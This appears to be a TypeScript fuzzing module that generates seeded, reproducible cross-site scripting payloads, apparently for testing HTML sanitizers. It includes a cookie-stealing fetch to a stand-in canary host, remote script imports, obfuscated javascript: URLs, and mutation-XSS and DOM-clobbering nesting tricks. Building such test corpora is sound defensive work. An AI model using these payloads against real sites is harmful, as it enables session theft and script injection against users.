/** Attacks generated from elements × handlers × URLs × encodings × nesting. The same seed gives the same list. */

const CODES = [
  'alert(1)',
  'alert`1`',
  "top['al'+'ert'](1)",
  '\\u0061lert(1)',
  "fetch('https://canary.invalid/'+document.cookie)",
  'import("https://canary.invalid/x.js")',
  "eval('ale'+'rt(1)')",
  'window.open("https://canary.invalid/")',
]

const HANDLERS = ['onerror', 'onload', 'onclick', 'onfocus', 'onmouseover', 'ontoggle', 'onanimationstart']
const MORE_HANDLERS = [
  'onpointerover',
  'onbegin',
  'onscroll',
  'oninput',
  'onsubmit',
  'onbeforetoggle',
  'onwheel',
]

const ADDRESSES = [
  'javascript:CODE',
  'JaVaScRiPt:CODE',
  'java\tscript:CODE',
  'java\nscript:CODE',
  '\u0001javascript:CODE',
  '&#106;avascript:CODE',
  'javascript&colon;CODE',
  'javascript:/*--></title></style>*/CODE',
  'data:text/html,<script>CODE</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'vbscript:CODE',
  '//canary.invalid/x.js',
]

const VIA_HANDLER = [
  '<img src=x HANDLER=Q>',
  '<img/src=x/HANDLER=Q>',
  '<svg HANDLER=Q>',
  '<svg><animate HANDLER=Q attributeName=x dur=1s>',
  '<body HANDLER=Q>',
  '<details open HANDLER=Q><summary>s</summary></details>',
  '<video HANDLER=Q><source HANDLER=Q src=x></video>',
  '<input autofocus HANDLER=Q>',
  '<button HANDLER=Q>b</button>',
  '<a href="#" HANDLER=Q>a</a>',
  '<p tabindex=1 HANDLER=Q>p</p>',
  '<x-y HANDLER=Q tabindex=1>x</x-y>',
  '<marquee HANDLER=Q>m</marquee>',
  '<table background=x HANDLER=Q><tr><td HANDLER=Q>t',
  '<div popover HANDLER=Q>d</div>',
]

const VIA_ADDRESS = [
  '<a href=U>a</a>',
  '<svg><a xlink:href=U><text y=9>t</text></a></svg>',
  '<math><mtext xlink:href=U>t</mtext></math>',
  '<iframe src=U></iframe>',
  '<object data=U></object>',
  '<embed src=U>',
  '<form action=U><button>b</button></form>',
  '<button formaction=U>b</button>',
  '<base href=U><a href="x">a</a>',
  '<meta http-equiv=refresh content="0;url=U">',
  '<link rel=stylesheet href=U>',
  '<svg><use href=U></use></svg>',
  '<svg><set attributeName=href to=U /></svg>',
  '<area href=U>',
  '<img srcset=U>',
]

const AS_CODE = [
  '<script>CODE</script>',
  '<scr<script>ipt>CODE</scr</script>ipt>',
  '<script src=//canary.invalid/x.js></script>',
  '<iframe srcdoc="<script>parent.CODE</script>"></iframe>',
  '<svg><script>CODE</script></svg>',
  '<style>@import "//canary.invalid/x.css"</style>',
  '<div style="background:url(//canary.invalid/s)">s</div>',
  '<div data-bind="text: CODE" data-widget="x">k</div>',
  '<div id=BASE_URL name=Bezel>c</div><a id=trustedTypes href="javascript:CODE">c</a>',
]

const NESTS = [
  'X',
  '<b>X</b>',
  '<svg><foreignObject>X</foreignObject></svg>',
  '<math><mtext><table><mglyph><style><!--</style>X',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>X">',
  '<noscript><p title="</noscript>X">',
  '<template>X</template>',
  '<select><style></select>X',
  '<svg><style><a id="</style>X"></a>',
  '<!--><b>-->X',
  '<![CDATA[>X]]>',
  '<textarea></textarea>X',
  '<title></title>X',
  '<xmp></xmp>X',
  '<p title="a>X">X',
  '<table><tr><td>X',
  '<div data-widget="cms-block" data-identifier="none">X</div>',
  '<p>X',
  '<math><annotation-xml encoding="text/html">X</annotation-xml></math>',
]

type Pick = <T>(list: readonly T[]) => T

/** Mulberry32: small, and the same everywhere. */
function picker(seed: number): Pick {
  let state = seed
  const next = () => {
    state = (state + 0x6d2b79f5) | 0
    let t = Math.imul(state ^ (state >>> 15), 1 | state)
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296
  }
  return (list) => list[Math.floor(next() * list.length)]!
}

const entities = (text: string, hex: boolean) =>
  Array.from(text, (sign) =>
    hex ? `&#x${sign.codePointAt(0)!.toString(16)};` : `&#${sign.codePointAt(0)!};`,
  ).join('')

const WRITTEN: ((value: string) => string)[] = [
  (value) => `"${value.replaceAll('"', '&quot;')}"`,
  (value) => `'${value.replaceAll("'", '&#39;')}'`,
  (value) => (/[\s"'`=<>]/.test(value) ? `"${value.replaceAll('"', '&quot;')}"` : value),
  (value) => `"${entities(value, false)}"`,
  (value) => `"${entities(value, true)}"`,
]

const mixed = (html: string) =>
  html.replace(/<(\/?)([a-z]+)/g, (_, slash, name) => `<${slash}${upEven(name)}`)
const upEven = (name: string) => Array.from(name, (sign, at) => (at % 2 ? sign : sign.toUpperCase())).join('')
const SHAPES: ((html: string) => string)[] = [
  (html) => html,
  (html) => html,
  mixed,
  (html) => html.replaceAll('>', ' \u0000>'),
]

/** So many payloads. */
export function payloads(count: number, seed = 1): string[] {
  const pick = picker(seed)
  return Array.from({ length: count }, (_, at) => {
    const code = pick(CODES)
    const made = [viaHandler, viaAddress, asCode][at % 3]!(pick, code)
    return pick(NESTS).replaceAll('X', () => pick(SHAPES)(made))
  })
}

const viaHandler = (pick: Pick, code: string) => {
  const quoted = pick(WRITTEN)(code)
  const handler = pick(pick([HANDLERS, HANDLERS, MORE_HANDLERS]))
  return pick(VIA_HANDLER)
    .replaceAll('HANDLER', handler)
    .replaceAll('Q', () => quoted)
}

const viaAddress = (pick: Pick, code: string) => {
  const address = pick(ADDRESSES).replace('CODE', () => code)
  const quoted = pick(WRITTEN)(address)
  return pick(VIA_ADDRESS).replaceAll('U', () => quoted)
}

const asCode = (pick: Pick, code: string) => pick(AS_CODE).replaceAll('CODE', () => code)
